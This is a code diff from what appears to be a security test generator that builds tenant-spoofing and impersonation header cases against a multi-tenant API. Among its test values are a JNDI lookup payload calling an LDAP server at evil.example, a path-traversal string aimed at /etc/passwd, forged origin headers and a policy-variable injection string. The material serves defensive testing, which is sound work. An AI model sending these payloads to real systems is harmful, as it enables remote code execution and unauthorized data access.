@@ -17,22 +17,28 @@ export function headers(world: World): AttackClass {
 
 function attemptsOn(world: World, api: Api, route: Route): Attempt[] {
   const { victim } = world
-  const { ids } = ruleOf(api.rules, route)
-  const mismatch = api.name === 'tenant API' ? '409 TENANT_MISMATCH X-Tenant-Id' : route.success
+  const rule = ruleOf(api.rules, route)
+  const { ids } = rule
   const cases: [mutation: string, headers: Record<string, string>, expected: string][] = [
-    ...[
-      victim.config.tenantId,
-      `${world.attacker.config.tenantId}x`,
-      '',
-      '*',
-      'null',
-      '${aws:PrincipalTag/TenantId}',
-    ].map((id): [string, Record<string, string>, string] => [`X-Tenant-Id "${id}"`, { 'x-tenant-id': id }, mismatch]),
-    ...impersonations(world).map((headers): [string, Record<string, string>, string] => [
-      Object.keys(headers).join(', '),
-      headers,
-      route.success,
+    ...(api.name === 'tenant API'
+      ? [
+          victim.config.tenantId,
+          `${world.attacker.config.tenantId}x`,
+          '',
+          '*',
+          'null',
+          String.raw`\${aws:PrincipalTag/TenantId}`,
+        ]
+      : []
+    ).map((id): [string, Record<string, string>, string] => [
+      `X-Tenant-Id "${id}"`,
+      { 'x-tenant-id': id },
+      '409 TENANT_MISMATCH X-Tenant-Id',
     ]),
+    // A call that uses something up is one that other cases cannot share.
+    ...(rule.control || rule.costly ? [] : impersonations(world)).map(
+      (headers): [string, Record<string, string>, string] => [Object.keys(headers).join(', '), headers, route.success],
+    ),
   ]
   return Object.entries(api.people)
     .filter(([role]) => mayCall(route, role))
@@ -70,7 +76,7 @@ function impersonations({ victim }: World): Record<string, string>[] {
     { 'x-amz-security-token': token },
     { 'x-access-token': token, 'x-id-token': token },
     { origin: 'https://evil.example', referer: 'https://evil.example/' },
-    { 'accept-language': '../../etc/passwd', 'user-agent': '${jndi:ldap://evil.example/a}' },
+    { 'accept-language': '../../etc/passwd', 'user-agent': String.raw`\${jndi:ldap://evil.example/a}` },
     { 'x-amzn-requestid': 'forged', 'x-amzn-trace-id': `Root=1-0-0;TenantId=${tenantId}` },
   ]
 }
